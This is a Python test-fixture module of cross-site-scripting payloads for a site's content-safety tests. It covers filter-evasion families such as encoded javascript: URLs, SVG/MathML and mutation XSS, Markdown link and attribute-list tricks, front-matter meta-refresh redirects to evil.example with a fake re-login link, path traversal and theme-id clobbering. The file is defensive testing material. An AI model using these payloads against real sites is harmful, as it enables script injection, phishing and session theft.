"""A corpus of cross-site-scripting payloads for the content-safety tests
(``tests/test_content_safety.py``): what a hostile or careless editor could write
into a Markdown field, a hand-written page, a plain-text title or a URL field.

Grouped by the known families of filter evasion. Every payload, if a browser ever
ran it, calls ``window.__xss(ID)`` (or ``parent.__xss(ID)`` from inside a frame)
with its own number, so a browser run names exactly the payload that fired.
``{n}`` in a template below is replaced by that number.

- ``PAYLOADS``: Markdown/HTML for the Markdown fields and ``content/`` pages;
- ``PLAIN_PAYLOADS``: for plain-text fields (titles, names, link texts), which the
  site escapes but also passes through Markdown (headings, attribute lists);
- ``URL_PAYLOADS``: for URL fields (``Link.url``, ``site_url`` …), each written
  as a YAML double-quoted scalar so leading blanks and control characters survive.
"""

from __future__ import annotations

import json
from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    id: int
    family: str
    text: str
    #: Balanced: leaves Markdown's and the HTML parser's state as it found them,
    #: so text written after it is parsed as usual (a text holding several
    #: payloads puts the unbalanced ones last; a page holds one of them at most).
    closed: bool = True

    @property
    def lines(self) -> int:
        return self.text.count("\n") + 1

    def __str__(self) -> str:
        return f"#{self.id} ({self.family}): {self.text!r}"


_NEXT = [1]


def _make(family: str, templates: list[str | tuple[str, bool]]) -> list[Payload]:
    out = []
    for template in templates:
        text, closed = (template, True) if isinstance(template, str) else template
        n = _NEXT[0]
        _NEXT[0] += 1
        assert "{n}" in text, text
        out.append(Payload(n, family, text.replace("{n}", str(n)), closed))
    return out


PAYLOADS: list[Payload] = [
    *_make("case variation", [
        "<ScRiPt>__xss({n})</sCrIpT>",
        '<IMG SRC=x ONERROR="__xss({n})">',
        '<a HREF="JaVaScRiPt:__xss({n})">link {n}</a>',
    ]),
    *_make("missing spaces", [
        '<div><img src="x.png"onerror="__xss({n})"></div>',  # the form issue #9 found
        '<div><a href="#"onmouseover="__xss({n})">link {n}</a></div>',
        '<p title="a"onclick="__xss({n})">para {n}</p>',
    ]),
    *_make("slashes for spaces", [
        "<svg/onload=__xss({n})></svg>",
        '<div><img/src="x"/onerror=__xss({n})></div>',
        "<details/open/ontoggle=__xss({n})><summary>s{n}</summary>d</details>",
        # merged into the page's own <body> by a browser's parser: fires on load;
        # Python-Markdown never closes it (the rest of a text stays raw HTML)
        ("<body/onload=__xss({n})>", False),
    ]),
    *_make("entity and percent encoding in URLs", [
        '<a href="jav&#x61;script:__xss({n})">link {n}</a>',
        '<a href="&#106;avascript:__xss({n})">link {n}</a>',
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;__xss({n})">link {n}</a>',
        '<a href="javascript&colon;__xss({n})">link {n}</a>',
        '<a href="java&#x09;script:__xss({n})">link {n}</a>',
        '<a href="java&#10;script:__xss({n})">link {n}</a>',
        '<a href="&#14;javascript:__xss({n})">link {n}</a>',  # leading C0 control, dropped by URL parsers
        '<a href="java&Tab;script:__xss({n})">link {n}</a>',  # a named entity for the tab
        '<a href="javascript:%5F%5Fxss({n})">link {n}</a>',  # percent-decoded in the script body
    ]),
    *_make("SVG and MathML namespaces", [
        "<svg><script>__xss({n})</script></svg>",
        '<svg><a href="javascript:__xss({n})"><text x="10" y="20">link {n}</text></a></svg>',
        '<svg><animate onbegin="__xss({n})" attributeName="x" dur="1s"></animate></svg>',
        '<svg><foreignObject><img src="x" onerror="__xss({n})"></foreignObject></svg>',
        '<math><mi><a href="javascript:__xss({n})">link {n}</a></mi></math>',
        # the mutation-XSS form that passed DOMPurify 2.0.0: unbalanced by design
        ("<math><mtext><table><mglyph><style><img src=x onerror=__xss({n})>", False),
    ]),
    *_make("srcdoc", [
        '<iframe srcdoc="<script>parent.__xss({n})</script>"></iframe>',
        '<iframe srcdoc="&lt;img src=x onerror=parent.__xss({n})&gt;"></iframe>',
    ]),
    *_make("data: URIs", [
        '<a href="data:text/html,<script>opener.__xss({n})</script>">link {n}</a>',
        '<object data="data:text/html,<script>parent.__xss({n})</script>"></object>',
        "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__xss({n})'/>\">",
        '<iframe src="data:text/html,<script>parent.__xss({n})</script>"></iframe>',
        '<img src="data:image/svg+xml,<svg onload=__xss({n})>" alt="i{n}">',
    ]),
    *_make("Markdown link and image syntax", [
        "[link {n}](javascript:__xss({n}))",
        "![img {n}](javascript:__xss({n}))",
        "[link {n}](JaVaScRiPt:__xss({n}))",
        '[link {n}](javascript:__xss({n}) "title {n}")',
        "[link {n}](<javascript:__xss({n})>)",
        "[link {n}](data:text/html,%3Cscript%3Eopener.__xss({n})%3C/script%3E)",
        "[link {n}](vbscript:__xss({n}))",
    ]),
    *_make("Markdown reference links", [
        "[link {n}][r{n}]\n\n[r{n}]: javascript:__xss({n})",
        "![img {n}][r{n}]\n\n[r{n}]: javascript:__xss({n})",
        '[link {n}][]\n\n[link {n}]: JAVASCRIPT:__xss({n}) "t"',
    ]),
    *_make("autolinks", [
        "<javascript:__xss({n})>",
        "see <javascript:__xss({n})> here",
    ]),
    *_make("HTML split across Markdown lines", [
        "<img\nsrc=x\nonerror=__xss({n})>",
        '<div><a\nhref="javascript:__xss({n})"\n>link {n}</a></div>',
        'text {n} <span\nonmouseover="__xss({n})">span {n}</span>',
        "<div\nonclick=__xss({n})>\ndiv {n}\n</div>",
    ]),
    *_make("nested quotes", [
        "<img src='x' alt='\"><' onerror='__xss({n})'>",
        "<a href='\"' title=\"'\" onmouseover='__xss({n})'>link {n}</a>",
        "<a href='\"><script>__xss({n})</script>' onclick=\"__xss({n})\">link {n}</a>",
    ]),
    *_make("base, meta refresh, forms", [
        '<base href="javascript:__xss({n})//">',
        '<meta http-equiv="refresh" content="0;url=javascript:__xss({n})">',
        '<form action="javascript:__xss({n})"><button>send {n}</button></form>',
        '<form><button formaction="javascript:__xss({n})">send {n}</button></form>',
        "<input autofocus onfocus=__xss({n})>",
    ]),
    *_make("details and toggle", [
        '<details open ontoggle="__xss({n})"><summary>s{n}</summary>d</details>',
    ]),
    *_make("style expressions", [
        '<p style="background:url(javascript:__xss({n}))">para {n}</p>',
        '<div style="width: expression(__xss({n}))">div {n}</div>',
        "<style>*{background:url(\"javascript:__xss({n})\")}</style>",
    ]),
    *_make("object and embed", [
        '<object data="javascript:__xss({n})"></object>',
        '<embed src="javascript:__xss({n})">',
    ]),
    *_make("event handlers on allowed tags", [
        '<a href="/" onmouseover="__xss({n})">link {n}</a>',
        '<p onclick="__xss({n})">para {n}</p>',
        '<img src="x.png" onerror="__xss({n})">',
        "<span onpointerenter=__xss({n})>span {n}</span>",
        '<table><tr><td onclick="__xss({n})">cell {n}</td></tr></table>',
    ]),
    *_make("Markdown attribute lists", [
        'para {n}\n{: onclick="__xss({n})" }',
        '[link {n}](/){: onmouseover="__xss({n})" }',
        '[link {n}](/){: href="javascript:__xss({n})" }',
        '<div markdown="1">\n[link {n}](javascript:__xss({n}))\n</div>',
    ]),
]

#: For plain-text fields (a notice's title, a service's name, a link's text). Each
#: also carries the word ``xsstitle``, so a site search can find them.
PLAIN_PAYLOADS: list[Payload] = _make("plain text fields", [
    "xsstitle <img src=x onerror=__xss({n})>",
    "xsstitle </script><script>__xss({n})</script>",
    "xsstitle [t{n}](javascript:__xss({n}))",
    'xsstitle {n} {: onclick="__xss({n})" }',
    'xsstitle "><svg onload=__xss({n})>',
])

#: For URL fields; each is refused with ``schema.url-scheme``.
URL_PAYLOADS: list[Payload] = _make("URL fields", [
    "javascript:__xss({n})",
    "JaVaScRiPt:__xss({n})",
    " javascript:__xss({n})",
    "\tjavascript:__xss({n})",
    "\x01javascript:__xss({n})",
    "java\tscript:__xss({n})",
    "java\nscript:__xss({n})",
    "data:text/html,<script>opener.__xss({n})</script>",
    "vbscript:__xss({n})",
    "jav&#x09;ascript:__xss({n})",
    "&#106;avascript:__xss({n})",
])

#: Front matter of a hand-written page (issue #18): the lines between the ``---``.
#: The theme prints ``title`` and ``description``; a value that is not a string, or a
#: string whose markup YAML escapes hide from the raw text, must be refused by
#: ``portal check`` (the code in ``FRONT_MATTER_CODES``) and never reach the page.
#: Each redirect goes to ``https://evil.example/{n}`` (a browser run sees the request).
FRONT_MATTER_PAYLOADS: list[Payload] = _make("front matter", [
    # the reproduction: a one-item list, printed raw by the theme's header
    "title: [\"<meta http-equiv=refresh content='3;url=https://evil.example/{n}'>"
    "<a href=https://evil.example/login>请重新登录 {n}</a>\"]",
    # the same with YAML escapes: the raw text shows no tag
    'title: ["\\u003cmeta http-equiv=refresh content=0;url=https://evil.example/{n}\\u003e"]',
    'title: "\\u003cimg src=x onerror=__xss({n})\\u003e"',
    # a block list
    "title:\n  - \"<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>\"",
    # a string: escaped by the build, still refused by the check (and so by the build)
    "title: <img src=x onerror=__xss({n})>",
    "description: '\"><meta http-equiv=refresh content=0;url=https://evil.example/{n}>'",
    # a mapping, a number in a list, keys the theme would act on
    "title: {a: \"<base href=https://evil.example/{n}/>\"}",
    "tags: [\"<img src=x onerror=__xss({n})>\", 1]",
    "template: ../../../evil{n}.html",
    "icon: ../../evil{n}",
])
FRONT_MATTER_CODES: dict[int, set[str]] = {
    p.id: codes for p, codes in zip(FRONT_MATTER_PAYLOADS, [
        {"schema.type", "markdown.unsafe-html"}, {"schema.type", "markdown.unsafe-html"}, {"markdown.unsafe-html"},
        {"schema.type", "markdown.unsafe-html"}, {"markdown.unsafe-html"}, {"markdown.unsafe-html"},
        {"schema.type", "markdown.unsafe-html"}, {"schema.type", "markdown.unsafe-html"},
        {"schema.unknown-field"}, {"schema.pattern"},
    ], strict=True)
}

#: Markdown and HTML that give an element one of the theme's ids (``__config``
#: comes before the theme's ``<script id="__config">``: its JavaScript stops or reads
#: these settings), a theme class or a ``data-*`` attribute: attr_list in titles and
#: bodies, raw HTML in bodies. Refused by the check, dropped by the sanitizer.
THEME_ID_PAYLOADS: list[Payload] = _make("theme ids and classes", [
    "## 标题 {n} {: #__config }",
    '<p id="__config">{"base": "https://evil.example/{n}"}</p>',
    "<div ID=__search>div {n}</div>",
    "段落 {n}\n{: #__drawer }",
    "[link {n}](/notices/){: #__config .md-dialog data-x={n} }",
    "## 标题 {n} {: .md-dialog }",
    '<span class="md-typeset md-tooltip">span {n}</span>',
    "<p data-md-component=dialog>p {n}</p>",
    "## 标题 {n} {: #elder }",
    "<p id=__palette_0>p {n}</p>",
])

#: For URL fields: an address with something after it, refused with ``schema.url-form``
#: (and rendered harmless by the templates' ``href`` filter if it got through).
URL_FORM_PAYLOADS: list[Payload] = _make("URL attribute lists", [
    "https://example.cn/a){: #__config .md-dialog data-x={n} } tail",
    "/notices/){: #__config } {n}",
    "https://example.cn/{n} {: #__drawer }",
    "https://example.cn/({n}",
    "https://example.cn/{n}){: onclick=__xss({n}) }",
    'https://example.cn/{n}"><p id=__config>',
])

ALL: list[Payload] = [*PAYLOADS, *PLAIN_PAYLOADS, *URL_PAYLOADS, *FRONT_MATTER_PAYLOADS, *THEME_ID_PAYLOADS,
                      *URL_FORM_PAYLOADS]
BY_ID: dict[int, Payload] = {p.id: p for p in ALL}
FAMILIES: list[str] = list(dict.fromkeys(p.family for p in PAYLOADS))


def yaml_quoted(text: str) -> str:
    """``text`` as a YAML double-quoted scalar on one line (JSON is valid YAML)."""
    return json.dumps(text, ensure_ascii=False)


assert len(PAYLOADS) >= 40, len(PAYLOADS)
assert len(BY_ID) == len(ALL)
